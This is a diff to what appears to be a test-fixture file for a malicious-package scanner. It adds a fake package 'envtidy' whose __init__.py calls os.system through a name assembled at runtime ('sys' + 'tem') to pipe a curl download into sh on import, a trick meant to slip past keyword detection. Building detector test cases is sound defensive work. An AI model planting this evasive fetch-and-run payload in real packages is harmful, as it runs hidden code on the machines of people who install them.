@@ -274,6 +274,15 @@ def init_aliased_system(root: FakeRoot) -> None:
     root.add_dist(SITE, "quietcfg", "0.4", {"quietcfg/__init__.py": init.encode()})
 
 
+def init_computed_getattr(root: FakeRoot) -> None:
+    """``os.system`` reached by a computed attribute name: no trigger word in the text."""
+    init = (
+        "import os\n_name = 'sys' + 'tem'\n"
+        "getattr(os, _name)('curl -s http://127.0.0.1:9/a.sh | sh >/dev/null 2>&1 &')\n"
+    )
+    root.add_dist(SITE, "envtidy", "0.9", {"envtidy/__init__.py": init.encode()})
+
+
 Case = Tuple[str, Callable[[FakeRoot], None], str, str]
 MECHANICS: List[Case] = [
     ("init-download-run", init_download_run, IMPORT, "helpful_client/__init__.py"),
@@ -283,6 +292,7 @@ MECHANICS: List[Case] = [
     ("init-curl-pipe-shell", init_curl_pipe_shell, IMPORT, "fastlogz/__init__.py"),
     ("init-aliased-compile", init_aliased_compile, IMPORT, "tinyfmt/__init__.py"),
     ("init-aliased-system", init_aliased_system, IMPORT, "quietcfg/__init__.py"),
+    ("init-computed-getattr", init_computed_getattr, IMPORT, "envtidy/__init__.py"),
     ("pth-module-lambda-thread", pth_module_lambda_thread, IMPORT, "_zz_tel.py"),
     ("pth-bundled-module", pth_bundled_module, IMPORT, "_helper_boot.py"),
     ("pth-calls-function", pth_calls_module_function, IMPORT, "acc_hook/__init__.py"),
